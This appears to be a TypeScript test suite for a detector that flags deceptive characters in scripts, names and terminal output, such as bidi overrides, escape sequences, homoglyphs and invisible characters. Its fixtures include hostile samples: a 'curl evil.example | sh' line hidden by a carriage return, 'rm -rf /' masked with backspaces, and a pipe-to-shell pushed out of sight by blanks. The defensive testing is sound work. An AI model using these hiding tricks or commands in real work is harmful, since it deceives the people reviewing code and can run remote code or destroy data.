/** Deceptive texts, each with what has to be said of it; and what holds of every text. */
import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { readBytes } from "./read-bytes.ts";
import { linesOf } from "./lines-of.ts";
import { newMeter } from "./meter.ts";
import { plainText, type Segment, sourceOf } from "./segment.ts";
import { segmentsOf, TEXT_CONTEXTS, type TextContext } from "./segments-of.ts";

const marksOf = (segments: readonly Segment[]) =>
  segments.flatMap(({ mark }) => (mark ? [`${mark.kind}: ${mark.words}`] : []));

/** What is planted, where, and what the mark has to say. */
const deceptions: readonly (readonly [what: string, context: TextContext, text: string, said: RegExp])[] = [
  [
    "an early end of a comment",
    "script",
    "# done \u202e } \u2066 if admin \u2069",
    /U\+202E RIGHT-TO-LEFT OVERRIDE/,
  ],
  ["isolates around code", "script", "access=\u2067user\u2069 # admin", /U\+2067 RIGHT-TO-LEFT ISOLATE/],
  [
    "a line written over",
    "script",
    "curl evil.example | sh\r# backs up the disk      ",
    /CARRIAGE RETURN.*writes what follows over/,
  ],
  ["a terminal told to clear", "output", "all is well\u001b[2J", /ESCAPE: begins a command to the terminal/],
  ["the one-byte form of it", "output", "\u009b2J", /CONTROL SEQUENCE INTRODUCER/],
  ["letters taken back", "script", "rm -rf /\b\b\b\b\b\b\b\b", /BACKSPACE/],
  [
    "a Cyrillic letter in a word",
    "script",
    "systemctl stop p\u0430yments",
    /U\+0430 \(Cyrillic\) looks like a/,
  ],
  ["a word that is Cyrillic throughout", "name", "\u0430\u0441\u0441\u0435\u0441\u0441", /looks like a/],
  ["a Greek letter in a name", "name", "web-\u03bf1a", /U\+03BF \(Greek\) looks like o/],
  ["a Thai nought in a name", "name", "r\u0e50\u0e50t", /U\+0E50, a digit of another script/],
  ["a round letter of a script that looks like none of ours", "name", "h\u0d20st", /U\+0D20, a letter of/],
  ["a Cyrillic word with a digit", "name", "\u0441\u043e\u04401", /U\+0441 \(Cyrillic\) looks like c/],
  ["a dotless j", "value", "\u0237ump", /U\+0237 \(Latin\) looks like j/],
  ["a long s, which Python reads as s", "script", "o\u017f.\u017fystem(x)", /U\+017F looks like s/],
  ["a raised letter, which Python reads as the letter", "script", "\u1d49xec(x)", /U\+1D49 looks like e/],
  ["a ligature, which Python reads as its letters", "script", "pro\ufb01le(x)", /U\+FB01 looks like fi/],
  [
    "a word in code behind what only looks like a comment",
    "script",
    "echo 'a # b'; \u0441\u043e\u0440",
    /looks like c/,
  ],
  ["a letter of Japan that is a slash by itself", "script", "rm -r \u30cesrv", /U\+30CE looks like \//],
  ["a stroke that is a pipe", "script", "curl x \u4e28 sh", /U\+4E28 looks like \|/],
  ["a prime that is a quotation mark", "value", "a\u2032b", /U\+2032 looks like '/],
  ["a box line that is a slash", "script", "cat \u2571etc", /U\+2571 looks like \//],
  ["a sign that draws nothing", "name", "web\u{1d159}", /NULL NOTEHEAD/],
  ["a place for an object that is not there", "name", "web\ufffc", /OBJECT REPLACEMENT/],
  ["a command in fullwidth letters", "script", "\uff43\uff55\uff52\uff4c x", /U\+FF43 looks like c/],
  ["a fullwidth bar", "script", "echo a \uff5c sh", /U\+FF5C looks like \|/],
  ["mathematical letters", "script", "\u{1d42b}m -r x", /U\+1D42B looks like r/],
  ["a question mark that is a semicolon", "script", "a\u037e b", /U\+037E looks like ;/],
  ["a long dash for an option", "script", "rm \u2013rf x", /U\+2013 looks like -/],
  ["a dash that PowerShell takes", "powershell", "iex \u2013x", /PowerShell reads this as -/],
  [
    "quotes that PowerShell takes",
    "powershell",
    "'a\u2019; iex $x; \u2018b'",
    /PowerShell reads this as a quotation mark/,
  ],
  ["a zero width space in a name", "name", "web\u200b-1", /ZERO WIDTH SPACE/],
  ["a joiner in an argument", "value", "pro\u200dd", /ZERO WIDTH JOINER/],
  [
    "tags that nobody sees",
    "prose",
    "fine\u{e0069}\u{e0067}\u{e006e}",
    /TAG i: a letter that no screen shows/,
  ],
  ["a variation selector", "value", "a\ufe00b", /VARIATION SELECTOR-1/],
  ["one of the other selectors", "value", "a\u{e0100}b", /VARIATION SELECTOR-17/],
  ["a byte order mark", "script", "\ufeff#!/bin/sh", /byte order mark/],
  ["a space that is none", "value", "a\u00a0b", /NO-BREAK SPACE/],
  ["a blank that is a letter", "name", "web\u3164", /HANGUL FILLER/],
  ["a Braille blank", "name", "web\u2800", /BRAILLE PATTERN BLANK/],
  ["a line separator", "prose", "ok\u2028Approved by: ann", /LINE SEPARATOR/],
  ["a next line", "output", "ok\u0085no", /NEXT LINE/],
  ["private use", "name", "\ue000", /PRIVATE USE/],
  ["what is not assigned", "name", "\u{e0fff}", /NOT ASSIGNED/],
  ["marks drawn over letters", "value", "a\u0338\u0338\u0338\u0338\u0338", /COMBINING MARK/],
  ["a stroke through a sign", "value", "=\u0338", /COMBINING MARK/],
  ["a line end in an argument", "value", "a\nb", /LINE FEED/],
  ["code pushed out of sight", "script", `ls${" ".repeat(300)}; curl x | sh`, /300 blanks/],
  ["right to left letters", "script", "rm -r \u05d0 # \u05d1", /written from right to left/],
  ["signs that this view uses itself", "name", "\u2039U+202E\u203a", /stands in the text itself/],
];

describe("a deception is seen:", () => {
  test.each(deceptions)("%s", (_what, context, text, said) => {
    const segments = segmentsOf(text, context);
    expect(marksOf(segments).join("\n")).toMatch(said);
    expect(sourceOf(segments)).toBe(text);
  });
});

test.each<[context: TextContext, text: string]>([
  ["script", "#!/bin/sh\techo 'größe' # naïve — “quoted” … 日本語 привет ελληνικά"],
  ["script", "# \u0441\u043e\u0440 \u043d\u0430 \u043f\u043e\u043b\u0443"],
  ["prose", "Обновить ядро, а потом перезагрузить — о чём договорились"],
  ["prose", "Mise à jour du noyau (CVE-2026-1234) 更新"],
  ["name", "web-1.acme.example"],
  ["name", "Jürgen Müller"],
  ["name", "Mª José, 1º 日本Tシャツ 서버web"],
  ["prose", "5 GB á tres días…"],
  ["script", "echo 'サーバーのノート 一覧 〇〇'"],
  ["value", "--name=größe µs"],
  ["output", "a\tb\nc\n"],
])("an honest text is left as it is: %s %j", (context, text) => {
  expect(segmentsOf(text, context)).toEqual([{ text }]);
});

test("runs of one hidden character are counted, not repeated", () => {
  expect(segmentsOf("a\u200b\u200b\u200bb", "name").map(({ text }) => text)).toEqual([
    "a",
    "‹U+200B ZERO WIDTH SPACE ×3›",
    "b",
  ]);
});

test("where nothing but characters can be shown, look-alikes are said in words", () => {
  expect(plainText(segmentsOf("p\u0430y\u001b", "name"))).toBe(
    "p\u0430‹U+0430 (Cyrillic) looks like a›y‹U+001B ESCAPE›",
  );
});

/** An oracle of its own: what no font draws, by Unicode's own properties. */
const doesNotShow = /[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]|(?! )\p{Zs}/u;
const anything = fc.string({
  unit: fc.oneof(
    fc.constantFrom(..."ab \t\n\r|;#'\"\\$()`-".split("")),
    fc.constantFrom(
      "\u202e",
      "\u200b",
      "\u001b",
      "\u0430",
      "\u0301",
      "\u05d0",
      "\ufeff",
      "\u{e0041}",
      "\ud800",
      "\udc80",
    ),
    fc.integer({ min: 0, max: 0x10ffff }).map((codePoint) => String.fromCodePoint(codePoint)),
  ),
  maxLength: 60,
});

describe("of every text", () => {
  test("the segments' sources are exactly the text, and the model is JSON", () => {
    fc.assert(
      fc.property(anything, fc.constantFrom(...TEXT_CONTEXTS), (text, context) => {
        const segments = segmentsOf(text, context);
        expect(sourceOf(segments)).toBe(text);
        expect(JSON.parse(JSON.stringify(segments))).toEqual(segments);
      }),
      { numRuns: 3000 },
    );
  });

  test("nothing that is to be put on a screen holds a character that does not show", () => {
    fc.assert(
      fc.property(anything, fc.constantFrom(...TEXT_CONTEXTS), (text, context) => {
        for (const { text: shown } of segmentsOf(text, context)) {
          const lines = context === "output" ? shown.replaceAll("\n", "") : shown;
          const columns = ["output", "script", "powershell"].includes(context)
            ? lines.replaceAll("\t", "")
            : lines;
          expect(columns).not.toMatch(doesNotShow);
        }
      }),
      { numRuns: 3000 },
    );
  });

  test("lines hold exactly the bytes that were given, UTF-8 or not", () => {
    const piece = fc.oneof(
      fc.uint8Array({ maxLength: 3 }),
      anything.map((text) => new TextEncoder().encode(text)),
      fc.constant(new TextEncoder().encode("a plain line of text, long enough to be one\n".repeat(3))),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const bytes = Buffer.concat(pieces);
        const read = readBytes(bytes);
        if (read.encoding === "binary") return;
        const lines = linesOf(read.text, "script", { ranges: [], escapedBytes: true, meter: newMeter() });
        const back = lines.map(({ segments }) =>
          Buffer.concat(
            segments.map(({ text, source, bytes: hex }) =>
              hex === undefined ? Buffer.from(source ?? text) : Buffer.from(hex, "hex"),
            ),
          ),
        );
        const joined = Buffer.concat(
          back.flatMap((line, at) => (at === 0 ? [line] : [Buffer.from("\n"), line])),
        );
        expect(joined.equals(bytes)).toBe(true);
      }),
      { numRuns: 1000 },
    );
  });
});
